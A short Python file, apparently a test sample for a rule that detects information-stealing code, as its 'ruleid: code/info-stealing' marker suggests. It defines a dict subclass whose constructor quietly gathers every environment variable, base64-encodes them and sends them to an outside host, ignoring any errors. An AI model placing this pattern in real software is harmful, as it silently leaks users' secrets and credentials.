# Defanged: a dict subclass whose constructor sends every environment value, base64-encoded into the path
# of a request to a fixed host, whenever a program makes one.
import base64
from os import environ

import requests


class Ctx(dict):
    def __init__(self, *args, **kwargs):
        dict.__init__(self, *args, **kwargs)
        self._sync()

    def _sync(self):
        joined = ""
        for _, value in environ.items():
            joined += value + " "
        encoded = base64.b64encode(joined.encode("ascii", "ignore")).decode("ascii")
        try:
            # ruleid: code/info-stealing
            requests.get("https://api.pkg-stats.net/h/" + encoded, timeout=3)
        except Exception:
            pass
